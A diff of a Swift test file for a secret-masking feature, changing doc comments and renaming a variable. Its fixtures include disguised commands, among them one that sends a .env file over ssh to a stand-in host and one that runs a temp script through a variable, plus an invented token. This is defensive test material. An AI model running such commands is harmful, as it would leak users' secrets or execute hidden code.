@@ -5,7 +5,7 @@ import Testing
 
 @Suite("Masking secrets")
 struct SecretMaskTests {
-    /// Made up here, and put together from parts so that no scanner of this repository mistakes one for real.
+    /// An invented token, assembled from parts so that secret scanners do not report it.
     static let body = "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2"
     static let jwt = ["eyJhbGciOiJIUzI1NiJ9", "eyJzdWIiOiIxMjM0NTY3ODkwIn0", "dozjgNryP4J3jVmNHl0w5N"].joined(
         separator: ".")
@@ -150,7 +150,7 @@ struct SecretMaskTests {
         ])
     func commands(_ text: String, _ shown: String) { #expect(SecretMask.mask(text) == shown) }
 
-    /// Programs, files and hosts that hide behind the name of a secret: the command, and what must not be hidden in it.
+    /// Commands with programs, files and hosts after the name of a secret, each with the part that must stay visible.
     static let disguises: [(String, String)] = [
         ("A_TOKEN=/tmp/x1.sh; $A_TOKEN", "/tmp/x1.sh"),
         ("SECRET=evil.example; ssh $SECRET < .env", "evil.example"),
@@ -181,9 +181,9 @@ struct SecretMaskTests {
     func disguise(_ command: String, _ hidden: String) {
         let masked = SecretMask.masked(command)
         #expect(masked.text.contains(hidden) || masked.used > 0, "\(masked.text)")
-        let evidence = ReviewText(command)
-        #expect(evidence.isWhole == (masked.used == 0))
-        #expect(evidence.lines.contains("a masked value is used here") == (masked.used > 0))
+        let review = ReviewText(command)
+        #expect(review.isWhole == (masked.used == 0))
+        #expect(review.lines.contains("a masked value is used here") == (masked.used > 0))
     }
 
     @Test(
